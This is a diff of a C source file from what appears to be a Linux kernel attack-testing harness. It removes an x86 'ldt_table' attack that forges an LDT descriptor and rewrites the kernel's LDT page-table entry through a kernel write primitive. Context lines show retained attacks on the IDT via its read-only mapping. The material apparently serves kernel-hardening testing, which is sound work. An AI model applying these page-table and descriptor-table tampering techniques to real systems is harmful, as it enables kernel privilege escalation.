@@ -4,12 +4,7 @@
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
-#include <sys/syscall.h>
 #include <unistd.h>
-
-#ifdef __x86_64__
-#include <asm/ldt.h>
-#endif
 
 #include "attack.h"
 #include "files.h"
@@ -19,15 +14,6 @@
 #define CPU_ENTRY_AREA	0xfffffe0000000000UL	/* read-only IDT comes first */
 #define GATE_TYPE	5			/* byte of gate 0 */
 #define GATE_DPL3	0x60
-
-#define LDT_4_LEVELS	0xffff880000000000UL
-#define LDT_5_LEVELS	0xff10000000000000UL
-#define LDT_USED	3
-#define LDT_FORGED	2
-#define LDT_SELECTOR	(LDT_FORGED << 3 | 7)
-/* data segment, DPL 3, byte granular, limit 0xabcde */
-#define LDT_DESCRIPTOR	0x004af2000000bcdeUL
-#define LDT_LIMIT	0xabcde
 
 /* Its own entry in the user half alone: unseen by every walk of the other. */
 enum outcome pgd_user_half(void)
@@ -93,55 +79,6 @@ enum outcome cpu_entry_area(void)
 	return won("IDT changed through its read-only mapping: int $0 by uid %d reached the kernel's gate (SIGFPE, before: SIGSEGV)",
 		   getuid());
 }
-
-static unsigned int segment_limit(unsigned int selector)
-{
-	unsigned int limit = 0;
-
-	asm volatile("lsl %1, %0" : "+r" (limit) : "r" (selector) : "cc");
-	return limit;
-}
-
-static int make_ldt(void)
-{
-	struct user_desc desc = {
-		.entry_number = LDT_USED,
-		.limit = 1,
-		.seg_32bit = 1,
-		.useable = 1,
-	};
-
-	return syscall(SYS_modify_ldt, 1, &desc, sizeof(desc));
-}
-
-enum outcome ldt_table(void)
-{
-	uint64_t addr = top_level() == LEVEL_PGD ? LDT_5_LEVELS : LDT_4_LEVELS;
-	uint64_t *table, phys;
-	unsigned int limit;
-	struct slot slot;
-	int err;
-
-	if (!cpu_has("pti"))
-		return skipped("page-table isolation is off: the LDT has no mapping of its own");
-	if (make_ldt())
-		return broken("modify_ldt failed");
-	if (kwalk(addr, LEVEL_PTE, getpid(), &slot) || slot.level != LEVEL_PTE || !slot.value)
-		return broken("no LDT mapping found: level %d, entry 0x%lx", slot.level, slot.value);
-	phys = user_page((void **)&table);
-	table[LDT_FORGED] = LDT_DESCRIPTOR;
-
-	err = kwrite64(slot.slot, (slot.value & ~PTE_PFN_MASK) | phys);
-	flush_tlb();
-	limit = segment_limit(LDT_SELECTOR);
-	if (!err)
-		kwrite64(slot.slot, slot.value);
-	if (limit != LDT_LIMIT)
-		return lost("store gave %d, selector 0x%x has limit 0x%x", err,
-			    LDT_SELECTOR, limit);
-	return won("selector 0x%x has limit 0x%x: the CPU reads descriptors from the attacker's page",
-		   LDT_SELECTOR, limit);
-}
 #else
 static enum outcome only_x86(void)
 {
@@ -154,11 +91,6 @@ enum outcome pgd_user_half(void)
 }
 
 enum outcome cpu_entry_area(void)
-{
-	return only_x86();
-}
-
-enum outcome ldt_table(void)
 {
 	return only_x86();
 }
